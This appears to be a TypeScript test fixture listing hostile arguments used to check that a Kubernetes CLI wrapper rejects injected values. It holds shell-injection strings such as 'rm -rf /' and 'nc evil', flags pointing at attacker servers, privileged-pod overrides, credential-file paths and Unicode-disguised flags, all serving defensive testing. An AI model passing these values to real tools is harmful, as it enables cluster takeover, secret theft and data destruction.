/** The injection corpus: values a model (or a prompt-injected document) might pass to get a CLI to misbehave. */
const flags = [
  '--kubeconfig=/tmp/evil', '--kubeconfig', '--server=https://attacker.example', '--server', '-s', '--token=abc', '--token',
  '--as=system:admin', '--as-group=system:masters', '--as-uid=0', '--exec-command=/bin/sh', '--exec-arg=-c', '--user=admin',
  '--context=prod', '--cluster=other', '--certificate-authority=/etc/passwd', '--client-key=/root/.ssh/id_rsa',
  '--client-certificate=/x', '--insecure-skip-tls-verify', '--username=admin', '--password=hunter2', '--namespace=kube-system',
  '-n', '-nkube-system', '--all-namespaces', '-A', '--overrides={"spec":{"hostPID":true}}',
  '--overrides={"spec":{"hostNetwork":true}}', '--overrides={"spec":{"containers":[{"securityContext":{"privileged":true}}]}}',
  '--privileged', '--raw=/api/v1/secrets', '--v=10', '-v=9', '--output=jsonpath={.data}', '-ojson', '--template={{.data}}',
  '--force', '--grace-period=0', '--post-renderer=/bin/sh', '--kube-token=x', '--kube-apiserver=https://evil', '--repository-config=/x',
  '-', '--', '---', '-rf',
];
const inlineJson = [
  '{"spec":{"hostPID":true}}', '{"spec":{"hostNetwork":true,"hostIPC":true}}',
  '{"spec":{"containers":[{"name":"x","securityContext":{"privileged":true}}]}}', '[{"op":"add","path":"/spec/hostPID","value":true}]',
  '{"apiVersion":"v1","spec":{"volumes":[{"hostPath":{"path":"/"}}]}}',
];
const shell = [
  'web; rm -rf /', 'web && curl evil', 'web | nc evil 1', 'web`id`', 'web$(id)', '$(reboot)', '`reboot`', 'web > /etc/passwd',
  'web < /etc/shadow', 'a&b', 'x||y', '$HOME', '${IFS}', 'web\\nx', '(subshell)', 'web)', 'nginx;latest',
];
const controls = ['web\nkubectl delete ns prod', 'web\r\n--token=x', 'web\u0000--kubeconfig=/x', 'web\ttab', '\u001b[31mred', 'nginx\u007f', 'web\n'];
const traversal = ['../../etc/passwd', '..', '../secrets', 'default/../../kube-system', 'registry//x', '/api/v1/secrets', 'x/..', '....//'];
const unicode = ['\u2010kubeconfig=/x', '\u2013\u2013token=x', '\u2014server=evil', '\u2212n', '\uFF0D\uFF0Das=admin', '\uFE63v', 'nginx\u200b', 'wеb' /* Cyrillic е */, 'ｗeb', 'web\u202e'];
const overLong = ['a'.repeat(1025), `${'x'.repeat(5000)}`, `image:${'1'.repeat(2000)}`];
const misc = ['', ' -leading-space-then-dash'.trimStart(), '--kubeconfig /tmp/x', '-o=yaml', '--dry-run=none', '--as system:masters'];

export const hostileValues: string[] = [...flags, ...inlineJson, ...shell, ...controls, ...traversal, ...unicode, ...overLong, ...misc];

/** Values that must pass assertSafeArgument but still fail assertSafeName (not DNS-1123). */
export const badNames = ['a/b', 'Web', 'web_app', 'web.', '-web', 'web-', 'a'.repeat(254), 'web app', 'WEB'];
